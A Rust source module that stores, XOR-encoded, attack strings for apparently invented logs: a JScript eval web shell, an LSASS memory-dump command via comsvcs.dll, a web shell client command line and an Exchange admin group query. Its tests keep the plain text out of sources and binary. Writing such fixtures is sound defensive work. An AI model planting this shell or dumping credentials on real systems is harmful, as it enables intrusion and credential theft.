//! Text that a scanner would take for an attack: the script of a web shell and three command lines, as public reports of
//! March 2021 show them, with an invented parameter name.
//!
//! They are inert here: written into invented logs, never run. They stand encoded, because anti-malware products look for
//! such text in any file, our sources and our binary among them.

/// Every byte is turned with this one.
const TURN: u8 = 0x5A;

/// The value of ExternalUrl that carries a script.
pub(crate) fn script() -> String {
    decoded(
        "322e2e2a6075753c7566293928332a2e7a363b343d2f3b3d3f677810093928332a2e787a282f343b2e6778293f282c3f2878643c2f34392e3335347a0a3b3d3f0516353b3e7273213f2c3b3672083f2b2f3f292e0178316d2b682263780776782f34293b3c3f787361276675293928332a2e64",
    )
}

/// The command line that copies the memory of LSASS.
pub(crate) fn memory_dump() -> String {
    decoded(
        "282f343e36366968743f223f7a1960060d33343e352d29060923292e3f37696806393537292c3929743e3636767a173334331e2f372a7a6c68627a19600633343f2e2a2f38062d2d2d2835352e063b292a343f2e053936333f342e0636293b743e372a7a3c2f3636",
    )
}

/// The command line of a well-known web shell client.
pub(crate) fn shell_command() -> String {
    decoded(
        "7839373e787a75397a393e7a753e7a7819600633343f2e2a2f38062d2d2d2835352e063b292a343f2e053936333f342e787c2d32353b37337c3f3932357a0109077c393e7c3f3932357a011f07",
    )
}

/// The command that lists a group of Exchange administrators.
pub(crate) fn group_query() -> String {
    decoded("343f2e7a3d28352f2a7a781f2239323b343d3f7a0e282f292e3f3e7a092f382923292e3f37787a753e35373b3334")
}

fn decoded(hex: &str) -> String {
    let byte =
        |pair: &[u8]| std::str::from_utf8(pair).ok().and_then(|p| u8::from_str_radix(p, 16).ok()).map(|b| b ^ TURN);
    let bytes: Vec<u8> = hex.as_bytes().chunks(2).filter_map(byte).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;
    use std::fs;
    use std::path::Path;

    /// So many bytes of a payload in a row are enough for a scanner.
    const TELLING: usize = 12;

    fn payloads() -> [String; 4] {
        [super::script(), super::memory_dump(), super::shell_command(), super::group_query()]
    }

    /// Every run of bytes of the payloads that must stand nowhere. Plain names of folders and programs are no payload.
    fn telling() -> BTreeSet<Vec<u8>> {
        let ordinary = r"rundll32.exe / C:\Windows\System32\ C:\windows\system32\ C:\inetpub\wwwroot\aspnet_client ";
        payloads()
            .iter()
            .flat_map(|p| p.as_bytes().windows(TELLING).map(<[u8]>::to_vec).collect::<Vec<_>>())
            .filter(|run| !ordinary.as_bytes().windows(TELLING).any(|w| w == run))
            .collect()
    }

    fn held(bytes: &[u8]) -> Option<String> {
        let telling = telling();
        // A binary is long: most places are passed over by their first two bytes.
        let mut starts = vec![false; 1 << 16];
        let start = |run: &[u8]| usize::from(run[0]) << 8 | usize::from(run[1]);
        telling.iter().for_each(|run| starts[start(run)] = true);
        bytes
            .windows(TELLING)
            .find(|w| starts[start(w)] && telling.contains(*w))
            .map(|w| String::from_utf8_lossy(w).into_owned())
    }

    #[test]
    fn payloads_are_decoded_whole() {
        let [script, dump, command, group] = payloads();
        assert!(script.contains("k7q2x9") && script.starts_with('h') && script.ends_with('>'));
        assert!(dump.ends_with(" full") && command.contains("whoami") && group.ends_with(" /domain"));
    }

    #[test]
    fn what_a_scanner_looks_for_stands_nowhere_in_the_sources() {
        let mut folders: Vec<_> = ["src", "tests"].map(|f| Path::new(env!("CARGO_MANIFEST_DIR")).join(f)).into();
        while let Some(folder) = folders.pop() {
            for entry in fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    folders.push(path);
                    continue;
                }
                let text = fs::read_to_string(&path).unwrap().replace("\\\"", "\"").replace("\\\\", "\\");
                assert_eq!(held(text.as_bytes()), None, "{}", path.display());
            }
        }
    }

    #[test]
    fn what_a_scanner_looks_for_stands_nowhere_in_the_binary() {
        let binary = fs::read(std::env::current_exe().unwrap()).unwrap();
        assert_eq!(held(&binary), None);
    }
}
